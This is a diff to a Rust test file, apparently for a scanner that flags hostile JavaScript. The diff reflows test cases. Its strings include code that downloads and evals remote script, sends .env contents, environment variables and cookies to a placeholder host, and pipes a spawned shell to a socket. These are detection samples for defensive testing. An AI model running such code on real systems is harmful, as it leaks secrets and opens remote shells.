@@ -71,12 +71,18 @@ fn modules_are_known_by_every_import() {
 fn what_a_person_should_see_is_shown() {
     for (code, rule) in [
         ("fetch('https://example.com/a.js').then(r => r.text()).then(t => eval(t))", "code.download_run"),
-        ("(async () => { const r = await fetch('https://example.com'); eval(await r.text()) })()", "code.download_run"),
+        (
+            "(async () => { const r = await fetch('https://example.com'); eval(await r.text()) })()",
+            "code.download_run",
+        ),
         (
             "require('fs').readFile('.env', 'utf8', (e, d) => fetch('https://example.com', {method: 'POST', body: d}))",
             "code.secret_sent",
         ),
-        ("fetch('https://example.com', {method: 'POST', body: JSON.stringify(process.env)})", "code.environment_sent"),
+        (
+            "fetch('https://example.com', {method: 'POST', body: JSON.stringify(process.env)})",
+            "code.environment_sent",
+        ),
         ("navigator.sendBeacon('https://example.com', document.cookie)", "code.secret_sent"),
         (
             "const s = require('child_process').spawn('/bin/sh'); const c = new (require('net').Socket)(); c.connect(1, 'h', () => { c.pipe(s.stdin) })",
